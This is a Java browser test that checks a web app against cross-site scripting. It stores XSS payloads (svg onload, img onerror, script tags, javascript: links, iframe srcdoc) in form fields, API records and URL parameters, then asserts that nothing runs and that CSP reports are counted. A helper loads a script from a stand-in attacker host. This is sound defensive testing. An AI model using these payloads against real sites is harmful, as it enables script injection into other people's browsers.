package world.azora.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.options.AriaRole;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import world.azora.app.client.ApiClient;
import world.azora.app.demo.Person;
import world.azora.kernel.Secret;

/** Text that would be a script, in whatever field a person can fill, looked at in a real browser. */
@EnabledIf(value = "world.azora.app.Chromium#isInstalled", disabledReason = "apt install chromium, or set CHROMIUM")
final class InjectionTest {
    private static final Chromium BROWSER = Chromium.start();
    private static final String SCRIPT = "\"'><svg/onload=__ran=1><img src=x onerror=__ran=1><script>__ran=1</script>";
    private static final String MARKDOWN = SCRIPT
            + "\n\n[here](javascript:__ran=1) <a href=\"javascript:__ran=1\" onclick=\"__ran=1\">there</a>"
            + "\n\n<iframe srcdoc=\"<script>parent.__ran=1</script>\"></iframe><style>*{display:none}</style>";
    private static final Duration PATIENCE = Duration.ofSeconds(30);
    private static final Duration PAUSE = Duration.ofMillis(100);
    private static final Pattern REPORTS = Pattern.compile("(?m)^azora_csp_reports_total\\{[^}]*} ([0-9.E]+)");

    @AfterAll
    static void closeBrowser() {
        BROWSER.close();
    }

    @Test
    void text_of_people_never_runs_and_what_tries_is_stopped_and_counted() {
        BROWSER.show(InjectionTest::fillAndLook);
    }

    private static void fillAndLook() {
        var newcomers = new Newcomers(World.SHARED.server(), BROWSER);
        // Closed with the browser, so that a failure can show what was seen.
        var visitor = newcomers.stranger();
        var roles = List.of("LEARNER", "EDUCATOR", "TREASURER", "AUDITOR", "OPERATOR", "ADMIN");
        var person = newcomers.arrive(visitor, SCRIPT, roles);
        var pages = new ArrayList<>(everyPage());
        pages.addAll(fillEverything(signedIn(person)));
        pages.addAll(addressesThatWouldRun());
        var before = reports();

        look(visitor, pages);
        var learner = newcomers.stranger();
        signIn(learner, World.SHARED.person("learner"));
        look(
                learner,
                pages.stream()
                        .filter(path -> path.matches("/(courses|lessons|exercises)/.*"))
                        .toList());
        assertThat(reports()).isEqualTo(before);

        visitor.open("/account");
        tryToRun(visitor);
        assertThat(visitor.page().evaluate("window.__ran ?? 0")).isEqualTo(0);
        assertThat(visitor.complaints()).anyMatch(complaint -> complaint.contains("policy: require-trusted-types-for"));
        awaitReports(before + 1);
    }

    private static void look(Visitor visitor, List<String> pages) {
        for (var path : pages) {
            visitor.page().navigate(path);
            visitor.page().waitForLoadState();
            settle(visitor);
            assertThat(visitor.page().evaluate("window.__ran ?? 0")).as(path).isEqualTo(0);
        }
        assertThat(visitor.complaints()).noneMatch(complaint -> complaint.contains("policy:"));
    }

    private static void signIn(Visitor visitor, Person person) {
        visitor.page().navigate("/pages/sign-in");
        visitor.here().fill("E-mail address", person.email());
        visitor.here().fill("Password", person.password().value());
        visitor.here().press("Sign in");
        visitor.here().named(AriaRole.BUTTON, "Sign out").waitFor();
    }

    /** Pages of the console show what they have when nothing is loading any more; others have no such mark. */
    private static void settle(Visitor visitor) {
        if (visitor.page().locator("#console").count() > 0) visitor.settle();
    }

    /** As if a hole were found: an attribute that is a script, and an element that is one. */
    private static void tryToRun(Visitor visitor) {
        visitor.page().evaluate("""
                () => {
                  const picture = document.createElement('img');
                  document.body.append(picture);
                  try { picture.setAttribute('onerror', '__ran=1'); } catch {}
                  picture.src = '/no-such-picture.png';
                  const script = document.createElement('script');
                  try { script.src = 'https://evil.example/x.js'; } catch {}
                  try { script.text = '__ran=1'; } catch {}
                  document.body.append(script);
                }""");
    }

    private static List<String> everyPage() {
        return List.of(
                "/",
                "/account",
                "/account/email",
                "/account/factors",
                "/account/keys",
                "/account/sessions",
                "/account/applications",
                "/account/data",
                "/courses",
                "/wallet",
                "/rewards",
                "/teach",
                "/treasury",
                "/treasury/payments",
                "/ledger",
                "/engagements",
                "/trace",
                "/admin",
                "/admin/tools",
                "/admin/access",
                "/admin/mails",
                "/admin/activity",
                "/admin/jobs");
    }

    private static List<String> addressesThatWouldRun() {
        var text = URLEncoder.encode(SCRIPT, StandardCharsets.UTF_8);
        return List.of(
                "/sign-in?next=javascript:__ran=1",
                "/pages/sign-in?to=javascript:__ran=1&email=" + text,
                "/pages/sign-in?lang=" + text,
                "/pages/set-up?token=" + text,
                "/reset-password?welcome=" + text + "#token=" + text,
                "/oauth2/consent?state=" + text,
                "/oauth2/authorize?client_id=" + text + "&redirect_uri=javascript:__ran=1",
                "/connect/logout?post_logout_redirect_uri=javascript:__ran=1",
                "/trace/" + text,
                "/" + text);
    }

    /** Gives the pages on which it is shown. */
    private static List<String> fillEverything(ApiClient api) {
        var course = post(api, "/api/v1/courses", Map.of("title", SCRIPT, "summary", SCRIPT));
        var module = post(api, "/api/v1/courses/" + course + "/modules", Map.of("title", SCRIPT));
        var lesson = post(api, "/api/v1/modules/" + module + "/lessons", Map.of("title", SCRIPT, "markdown", MARKDOWN));
        var exercise = post(api, "/api/v1/modules/" + module + "/exercises", exercise());
        api.post("/api/v1/courses/" + course + "/publish", Map.of()).expect(200);
        submitAsLearner(course, exercise);
        var engagement = post(
                api,
                "/api/v1/engagements",
                Map.of("name", SCRIPT, "client", SCRIPT, "periodStart", "2026-01-01", "periodEnd", "2026-12-31"));
        World.SHARED.system().post("/api/v1/oauth-clients", tool()).expect(201);
        return List.of(
                "/courses/" + course,
                "/lessons/" + lesson,
                "/exercises/" + exercise,
                "/teach/" + course,
                "/teach/" + course + "/gradebook",
                "/engagements/" + engagement);
    }

    /** Waits for the verdict, so that what the program printed is there to be looked at. */
    private static void submitAsLearner(String course, String exercise) {
        var learner = World.SHARED.person("learner").api();
        learner.post("/api/v1/courses/" + course + "/enrolments", Map.of()).expect(201);
        var file = Map.of("name", "main.py", "content", "print(\"\"\"" + SCRIPT.substring(1) + "\"\"\")");
        var id = learner.with("Idempotency-Key", UUID.randomUUID().toString())
                .post("/api/v1/exercises/" + exercise + "/submissions", Map.of("files", List.of(file)))
                .expect(202)
                .at("/id");
        await(() -> List.of("GRADED", "FAILED")
                .contains(learner.get("/api/v1/submissions/" + id).at("/status")));
    }

    private static Map<String, Object> exercise() {
        var test = Map.of("name", SCRIPT, "stdin", SCRIPT, "expected", SCRIPT + "!", "hidden", false, "weight", 1);
        return Map.of(
                "title", SCRIPT, "language", "PYTHON", "prompt", MARKDOWN, "starter", SCRIPT, "tests", List.of(test));
    }

    private static Map<String, Object> tool() {
        return Map.of("name", SCRIPT, "type", "CONFIDENTIAL", "redirectUris", List.of("https://tool.example/callback"));
    }

    private static String post(ApiClient api, String path, Object body) {
        return api.with("Idempotency-Key", UUID.randomUUID().toString())
                .post(path, body)
                .expect(201)
                .at("/id");
    }

    private static ApiClient signedIn(Newcomers.Credentials person) {
        var api = World.SHARED.server().api();
        var grant = Map.of("grantType", "password", "email", person.email(), "password", person.password());
        return api.as(
                new Secret(api.post("/api/v1/auth/token", grant).expect(200).at("/accessToken")));
    }

    private static double reports() {
        return REPORTS.matcher(World.SHARED.system().get("/metrics").text())
                .results()
                .mapToDouble(found -> Double.parseDouble(found.group(1)))
                .sum();
    }

    private static void awaitReports(double wanted) {
        await(() -> reports() >= wanted);
    }

    private static void await(BooleanSupplier wanted) {
        var deadline = System.nanoTime() + PATIENCE.toNanos();
        while (!wanted.getAsBoolean()) {
            assertThat(System.nanoTime()).as("time to wait").isLessThan(deadline);
            LockSupport.parkNanos(PAUSE.toNanos());
        }
    }
}
